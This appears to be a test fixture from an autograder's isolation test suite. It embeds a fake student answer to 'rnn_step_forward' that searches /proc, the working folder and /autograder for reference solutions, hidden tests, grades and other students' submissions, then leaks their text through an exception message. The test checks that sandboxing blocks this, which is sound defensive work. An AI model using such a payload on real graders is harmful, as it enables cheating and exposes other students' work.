"""The leak of issue 15: finds the grading tree from where the worker was imported
(``sys.modules["autograder.student_process"].__file__``), from the interpreter, the working folder, the
command lines of its parent processes and Gradescope's /autograder, and raises the text of
whatever it can read there (the reference, hidden tests, fixtures, the engine, results, other
submissions) in its message: on Gradescope a public case's message is shown at once.
Without isolation it leaks the reference (tests/test_fallback.py); in bubblewrap and in the
uid fallback it finds nothing."""

QUESTION = "rnn_step_forward"
MESSAGE = r"found nothing \(uid="
SOURCE = '''
def rnn_step_forward(x, prev_h, Wx, Wh, b):
    import os, sys
    roots = ["$REPO", "$OUT", "/autograder", "/autograder/source", os.getcwd(), sys.prefix, sys.base_prefix]
    worker = sys.modules.get("autograder.student_process")
    if worker is not None:
        roots.append(os.path.dirname(os.path.abspath(worker.__file__)))
    pid = os.getpid()
    for _ in range(3):                       # the grader and its parents: their command lines
        try:
            with open(f"/proc/{pid}/status") as fh:
                pid = int([l for l in fh if l.startswith("PPid:")][0].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = fh.read().decode(errors="replace").replace("\\0", " ").split()
        except (OSError, IndexError, ValueError):
            break
        roots += [w for w in words if w.startswith("/")][:20]
    places = []
    for root in roots:
        for up in range(5):
            base = os.path.normpath(os.path.join(root, *[".."] * up))
            places += [base, os.path.join(base, "source")]
    wanted = ["solutions/cs231n/rnn_layers.py", "autograder/hidden_tests/rnn_step_forward.py",
              "autograder/fixtures/rnn_step_forward.h5", "autograder/grade/judging/grader.py",
              "results/results.json", "grades.csv", "submission_metadata.json", "submission/cs231n/rnn_layers.py"]
    found = {}

    def grab(path):
        try:
            if not os.path.samefile(path, __file__):      # its own code is no find
                with open(path, "rb") as fh:
                    text = fh.read(2**18).decode(errors="replace")
                start = max(text.find("BEGIN SOLUTION"), 0)          # the reference's answer first
                found[path] = text[start:start + 200]
        except OSError:
            pass

    for base in dict.fromkeys(places):
        for rel in wanted:
            grab(os.path.join(base, rel))
    # other submissions: folders of folders holding cs231n/, beside the output folder
    outer = os.path.dirname("$OUT")
    try:
        folders = [os.path.join(outer, n) for n in os.listdir(outer)[:50]]
    except OSError:
        folders = []
    for folder in folders:
        try:
            subs = [os.path.join(folder, n) for n in os.listdir(folder)[:50]]
        except OSError:
            continue
        for sub in [folder] + subs:
            grab(os.path.join(sub, "cs231n", "rnn_layers.py"))
    if found:
        text = " | ".join(f"{p}: {t}" for p, t in found.items())
        raise RuntimeError(f"LEAK uid={os.getuid()} " + " ".join(text.split())[:1500])
    raise RuntimeError(f"found nothing (uid={os.getuid()})")
'''
